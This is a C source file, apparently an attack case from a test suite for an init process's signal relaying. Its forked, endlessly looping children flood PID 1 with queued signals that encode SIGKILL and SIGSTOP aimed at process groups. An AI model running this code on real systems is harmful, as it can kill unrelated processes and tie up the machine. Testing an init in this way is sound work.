// Queues as many signals as it can to the init, which relays them to process groups: to those of
// later runs, and to numbers that mean other processes to kill(2). A part goes on until it is killed.
#include "attack.h"
#include <signal.h>

#define RELAY_SIGNAL 40

static void flood(void)
{
    static const int signals[] = {SIGKILL, SIGTERM, SIGSTOP, SIGINT};
    for (long group = -2; group < 400; group++)
        for (int index = 0; index < 4; index++)
            sigqueue(1, RELAY_SIGNAL, (union sigval){.sival_ptr = (void *)(group << 32 | signals[index])});
}

int main(void)
{
    setpgid(0, 0);
    for (int process = 0; process < 4; process++)
        if (fork() == 0) {
            setsid();
            for (;;)
                flood();
        }
    usleep(20000);
    return 0;
}
